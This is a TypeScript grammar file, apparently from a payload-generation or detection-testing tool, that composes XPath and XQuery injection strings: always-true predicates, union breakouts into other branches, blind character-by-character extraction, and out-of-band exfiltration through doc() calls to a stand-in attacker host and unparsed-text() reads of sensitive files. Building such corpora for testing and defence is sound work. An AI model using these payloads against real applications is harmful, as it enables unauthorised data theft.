/** XPath and XQuery: predicates that are always true, other branches of the document, and one bit at a time. */
import type { Family } from '../../family.ts';
import { characters, integer, LOWER_CASE, maybe, oneOf, type Rule, repeat, text, weighted } from '../../grammar.ts';
import { attackerHost, personName, sensitiveFile, token } from '../lexicon.ts';
import { familyOf } from '../places.ts';
import { anywhere } from '../surroundings.ts';

const element: Rule = oneOf(
  'user',
  'users',
  'employee',
  'Employee',
  'account',
  'node',
  'item',
  'customer',
  'book',
  'product',
  'person',
  'password',
  'username',
  'name',
  'secret',
  'root',
  'data',
  text`${characters(LOWER_CASE, 3, 7)}`,
);
const position: Rule = oneOf('1', '2', integer(1, 30), 'last()', 'position()=1', text`position()=${integer(1, 9)}`);
const axis: Rule = oneOf(
  'parent',
  'child',
  'ancestor',
  'following-sibling',
  'preceding-sibling',
  'descendant',
  'self',
  'ancestor-or-self',
  'descendant-or-self',
);

const location: Rule = oneOf(
  '/*',
  '//*',
  '/*[1]',
  text`/*[1]/*[${integer(1, 9)}]`,
  text`//${element}[${position}]`,
  text`//${element}[${position}]/child::node()[${position}]`,
  text`//${element}/${element}[${position}]`,
  text`/${element}/${element}[${position}]/${oneOf('text()', '@id', element, 'node()')}`,
  text`//${element}/@*`,
  text`//@${oneOf('*', 'id', 'password', 'role')}`,
  text`${axis}::${oneOf('*', 'node()', element)}[${position}]`,
  text`//${element}[${element}/text()='${personName}']/${element}`,
  text`//text()`,
  text`//comment()`,
  text`/*/*[${position}]/text()`,
);

const quote: Rule = oneOf("'", "'", "'", '"');

/** A condition that only XPath understands. */
const condition: Rule = oneOf(
  text`count(${location})=${integer(0, 20)}`,
  text`count(${location})${oneOf('>', '<', '=', '!=')}${integer(0, 200)}`,
  text`string-length(name(${location}))${oneOf('=', '>', '<')}${integer(1, 20)}`,
  text`string-length(${location})${oneOf('=', '>', '<')}${integer(1, 40)}`,
  text`substring(${location},${integer(1, 20)},1)='${characters(LOWER_CASE, 1)}'`,
  text`substring(name(${location}),${integer(1, 9)},1)='${characters(LOWER_CASE, 1)}'`,
  text`starts-with(name(${location}),'${characters(LOWER_CASE, 1, 2)}')`,
  text`starts-with(${location},'${characters(LOWER_CASE, 1, 3)}')`,
  text`contains(${oneOf('.', location, 'text()')},'${characters(LOWER_CASE, 1, 5)}')`,
  text`name(${oneOf('', location)})='${element}'`,
  text`local-name(${location})='${element}'`,
  text`${axis}::node()`,
  text`${axis}::*/text()`,
  text`//*`,
  text`/`,
  text`position()=${integer(1, 9)}`,
  text`not(${element}/text()='${token}')`,
  text`string-to-codepoints(substring(${location},${integer(1, 9)},1))=${integer(32, 126)}`,
  text`normalize-space(${location})!=''`,
  text`boolean(${location})`,
  text`namespace-uri(${location})=''`,
  text`doc-available('${oneOf('http://', 'file:///')}${attackerHost}/${token}')`,
  text`doc('http://${attackerHost}/${token}')`,
  text`doc(concat('http://${attackerHost}/',encode-for-uri(${location})))`,
  text`unparsed-text('${sensitiveFile}')`,
  text`exists(${location})`,
  text`lang('${characters(LOWER_CASE, 2)}')`,
);

const brokenOut: Rule = changedQuotes(
  oneOf(
    text`' or ${condition} or '${oneOf('', 'a', '1')}'='${oneOf('', 'a', '1', 'b')}`,
    text`' and ${condition} and '1'='1`,
    text`${personName}' or ${condition} or ''='`,
    text`${personName}' and ${condition} and '1'='1`,
    text`' or ${condition}${maybe(text` or ' '='`, 0.4)}`,
    text`') or ${condition} or ('`,
    text`'] or ${condition} or //${element}['`,
    text`x'or ${condition} or'x'='y`,
    text`' | ${location} | '`,
    text`'] | ${location} | ${oneOf('//a', '/foo', '//x', '/x')}['`,
    text`']/${axis}::*[${position}]${maybe(text`/${element}`, 0.4)} | a['`,
    text`')] | ${location}${maybe(text` | a[('`, 0.7)}`,
    text`']${location}['`,
    text`'or ${condition}][${position}]|//${element}['1`,
    text`' or ${element}/text()='${personName}' or '`,
  ),
);

const numeric: Rule = oneOf(
  text`${integer(0, 99)} or ${condition}`,
  text`${integer(0, 99)} and ${condition}`,
  text`${integer(0, 99)}] | ${location} | //${element}[${integer(0, 9)}`,
  text`${integer(0, 99)}]${location}`,
  text`${integer(0, 9)}) or ${condition} or (1`,
);

const wholeExpression: Rule = oneOf(
  text`//${element}[${element}/text()='' or '1'='1' and ${element}/text()='' or '1'='1']`,
  text`string(//${element}[${element}/text()='' or '1'='1' or ''='' and ${element}/text()='']/${element}/text())`,
  text`//${element}[${element}='${personName}' or ${condition}]`,
  text`${location} | ${location}`,
  text`string(//${element}[name/text()='${personName}' or ${condition}]/${element}/text())`,
);

const xquery: Rule = oneOf(
  text`'] for $${characters(LOWER_CASE, 1)} in ${location} return $${characters(LOWER_CASE, 1)} ${maybe("//a['", 0.5)}`,
  text`') return ${location}, ('`,
  text`for $x in doc('${element}.xml')${location} where ${condition} return $x`,
  text`let $x := ${location} return doc(concat('http://${attackerHost}/?',$x))`,
  text`' or (for $${characters(LOWER_CASE, 1)} in ${location} return ${condition}) or '`,
  text`'), ${oneOf('error', 'trace', 'doc', 'collection', 'document-uri', 'environment-variable')}(${oneOf(location, quote, text`'${token}'`)}), ('`,
  text`xquery version "1.0"; ${repeat(text`declare variable $${characters(LOWER_CASE, 2, 4)} := doc('${sensitiveFile}'); `, 1, 2)}${location}`,
);

function changedQuotes(part: Rule): Rule {
  return (random) => {
    const written = part(random);
    return random() < 0.25 ? written.replaceAll("'", '"') : written;
  };
}

/** XPath and XQuery injection. */
export const XPATH_FAMILIES: readonly Family[] = [
  familyOf('query-injection', 'xpath-string', anywhere(brokenOut), undefined, 1.5),
  familyOf('query-injection', 'xpath-number', anywhere(numeric), undefined, 0.7),
  familyOf('query-injection', 'xpath-expression', anywhere(weighted([2, wholeExpression], [1, xquery]))),
];
